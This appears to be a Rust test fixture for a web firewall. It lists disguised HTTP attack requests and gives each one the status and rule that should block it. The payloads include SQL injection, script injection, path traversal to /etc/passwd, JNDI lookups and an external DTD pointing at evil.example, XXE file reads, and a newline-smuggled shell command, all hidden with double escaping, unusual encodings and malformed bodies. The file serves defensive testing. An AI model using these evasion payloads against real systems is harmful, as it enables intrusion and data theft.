//! Attacks in disguise: escaped twice, in other alphabets, or in bodies that can be read in two ways.

/// A whole request; the head and body as they go over the wire, without what every request has.
pub(crate) struct Disguise {
    pub(crate) name: &'static str,
    pub(crate) method: &'static str,
    pub(crate) target: &'static str,
    pub(crate) content_type: &'static str,
    pub(crate) body: &'static [u8],
    /// What refuses it: the status, and the rule of `builtin`.
    pub(crate) outcome: (u16, u32),
}

const fn get(name: &'static str, target: &'static str, rule: u32) -> Disguise {
    Disguise { name, method: "GET", target, content_type: "", body: b"", outcome: (403, rule) }
}

const fn post(
    name: &'static str,
    content_type: &'static str,
    body: &'static [u8],
    outcome: (u16, u32),
) -> Disguise {
    Disguise { name, method: "POST", target: "/notes", content_type, body, outcome }
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
const XML: &str = "application/xml";
const PARTS: &str = "multipart/form-data; boundary=b0";

pub(crate) const DISGUISES: &[Disguise] = &[
    get("escaped twice, SQL", "/a?id=1%2527%2520OR%2520%25271%2527%253D%25271", 7_001_001),
    get("escaped twice, script", "/a?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", 7_002_001),
    get("escaped twice, path", "/a?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", 7_004_001),
    post("escapes of Unicode, SQL", FORM, b"id=1%u0027%20OR%20%u00271%u0027=%u00271", (403, 7_001_001)),
    post("escapes of Unicode, script", FORM, b"q=%u003cscript%u003ealert(1)%u003c/script%u003e", (403, 7_002_001)),
    post("wide letters, script", FORM, b"q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", (403, 7_002_001)),
    post("wide letters, path", FORM, b"f=%uff0e%uff0e/%uff0e%uff0e/etc/passwd", (403, 7_004_001)),
    get("overlong UTF-8, path", "/a?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", 7_009_001),
    get("overlong UTF-8, slash", "/a?f=..%c0%af..%c0%afetc/passwd", 7_009_001),
    get("overlong UTF-8, script", "/a?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be", 7_009_001),
    get("entities, script", "/a?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", 7_002_001),
    get("entities by number", "/a?q=%26%2360;img%20src=x%20onerror=alert(1)%26%2362;", 7_002_001),
    post("NUL between, script", FORM, b"q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E", (403, 7_002_001)),
    post("NUL between, SQL", FORM, b"id=1'%00%20OR%20'1'='1", (403, 7_001_001)),
    post("mixed case and tabs", FORM, b"id=1'%09oR%0A'1'%0C=%0D'1", (403, 7_001_001)),
    get("comments in words", "/a?id=1/*!50000UnIoN*//*!50000SeLeCt*/1,2", 7_001_001),
    get("plus for space", "/a?id=-1+union+select+1,2,3", 7_001_001),
    get("a second value of a name", "/a?id=7&id=1'+or+'1'='1", 7_001_001),
    get("a name without a value", "/a?1'+or+'1'='1'--", 7_001_001),
    get("an empty name", "/a?=%3Cscript%3Ealert(1)%3C/script%3E", 7_002_001),
    get("lookup, escaped twice", "/a?q=%2524%257Bjndi:ldap://evil.example/a%257D", 7_003_003),
    post("commands with wide newlines", FORM, b"h=x%0D%0Acat%20/etc/hosts", (403, 7_003_001)),
    get("the path itself", "/a/%24%7Bjndi:ldap:evil%7D", 7_003_003),
    post("JSON escapes, script", JSON, br#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#, (403, 7_002_001)),
    post("JSON escapes, SQL", JSON, br#"{"id":"1\u0027 OR \u00271\u0027=\u00271"}"#, (403, 7_001_001)),
    post("JSON escapes in a name", JSON, br#"{"user":{"\u0024ne":null}}"#, (403, 7_006_001)),
    post("JSON escapes, lookup", JSON, br#"{"q":"\u0024{jndi:ldap://evil.example/a}"}"#, (403, 7_003_003)),
    post("JSON in JSON's escapes, path", JSON, br#"{"f":"..\/..\/..\/etc\/passwd"}"#, (403, 7_004_001)),
    post("a JSON text alone", JSON, br#""<script>alert(1)</script>""#, (403, 7_002_001)),
    post("JSON in a list of lists", JSON, br#"[[[["1' OR '1'='1"]]]]"#, (403, 7_001_001)),
    post("JSON that breaks off", JSON, br#"{"q":"1' OR"#, (400, 7_000_010)),
    post("JSON as text", "text/plain", br#"{"q":"1' OR '1'='1"}"#, (415, 7_000_013)),
    post("JSON as a form", FORM, br#"{"q":"1' OR '1'='1"}"#, (415, 7_000_014)),
    post("JSON with a vendor's type", "application/vnd.acme.v2+json", br#"{"q":"1' OR '1'='1"}"#, (403, 7_001_001)),
    post("JSON with a parameter", "Application/JSON; charset=utf-8", br#"{"q":"1' OR '1'='1"}"#, (403, 7_001_001)),
    post("a form, escaped twice", FORM, b"q=%253Cscript%253Ealert(1)%253C/script%253E", (403, 7_002_001)),
    post("XML with an entity", XML, b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", (400, 7_000_010)),
    post("XML with entities in entities", XML, b"<!DOCTYPE a [<!ENTITY b \"bbbb\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>", (400, 7_000_010)),
    post("XML from elsewhere", XML, b"<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>", (400, 7_000_010)),
    post("XML as text", "text/plain", b"<?xml version='1.0'?><!DOCTYPE a []><a/>", (415, 7_000_013)),
    post("XML, a text in numbers", XML, b"<a>&#60;script&#62;alert(1)&#60;/script&#62;</a>", (403, 7_002_001)),
    post("XML, a section of characters", XML, b"<a><![CDATA[<script>alert(1)</script>]]></a>", (403, 7_002_001)),
    post("SOAP", "application/soap+xml", b"<s:Envelope xmlns:s=\"x\"><s:Body><q>1' OR '1'='1</q></s:Body></s:Envelope>", (403, 7_001_001)),
    post("parts: a name twice", PARTS, b"--b0\r\nContent-Disposition: form-data; name=\"a\"; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b0--\r\n", (400, 7_000_010)),
    post("parts: no end", PARTS, b"--b0\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n", (400, 7_000_010)),
    post("parts: bare line feeds", PARTS, b"--b0\nContent-Disposition: form-data; name=\"q\"\n\n<script>alert(1)</script>\n--b0--\n", (400, 7_000_011)),
    post("parts: a folded line", PARTS, b"--b0\r\nContent-Disposition: form-data;\r\n name=\"q\"\r\n\r\n1' OR '1'='1\r\n--b0--\r\n", (400, 7_000_011)),
    post("parts: text before the first", PARTS, b"q=<script>alert(1)</script>\r\n--b0\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1\r\n--b0--\r\n", (400, 7_000_011)),
    post("parts: text behind the last", PARTS, b"--b0\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1\r\n--b0--\r\n<script>alert(1)</script>", (400, 7_000_011)),
    post("parts: quotes of another kind", PARTS, b"--b0\r\nContent-Disposition: form-data; name='q'\r\n\r\n<script>alert(1)</script>\r\n--b0--\r\n", (400, 7_000_011)),
    post(
        "JSON in UTF-16",
        "application/json; charset=utf-16",
        b"{\0\"\0q\0\"\0:\0\"\0<\0s\0c\0r\0i\0p\0t\0>\0\"\0}\0",
        (400, 7_000_010),
    ),
    post(
        "a form in UTF-7",
        "application/x-www-form-urlencoded; charset=utf-7",
        b"q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        (415, 7_009_002),
    ),
    post(
        "a form in EBCDIC, the alphabet in quotes",
        "application/x-www-form-urlencoded; Charset=\"IBM037\"",
        b"%98=L%a2%83%99%89%97%a3n",
        (415, 7_009_002),
    ),
    post(
        "an alphabet that begins like another",
        "application/json; charset=utf-8-but-not-quite",
        b"{}",
        (415, 7_009_002),
    ),
    post(
        "a form that names its alphabet",
        FORM,
        b"_charset_=utf-7&q=%2BADw-script%2BAD4-",
        (415, 7_009_003),
    ),
    post(
        "parts: a text in UTF-7",
        PARTS,
        b"--b0\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--b0--\r\n",
        (415, 7_009_002),
    ),
    post(
        "parts: a text in base64",
        PARTS,
        b"--b0\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=\r\n--b0--\r\n",
        (415, 7_009_004),
    ),
];
